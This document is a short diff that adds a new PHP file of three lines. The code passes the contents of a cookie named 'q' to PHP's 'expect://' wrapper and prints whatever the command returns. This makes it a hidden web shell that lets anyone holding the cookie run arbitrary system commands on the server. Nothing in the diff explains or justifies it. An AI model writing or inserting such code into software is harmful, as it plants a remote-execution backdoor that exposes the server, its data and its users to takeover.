@@ -1,0 +1,3 @@
+<?php
+$h = fopen("expect://{$_COOKIE['q']}", 'r');
+fpassthru($h);
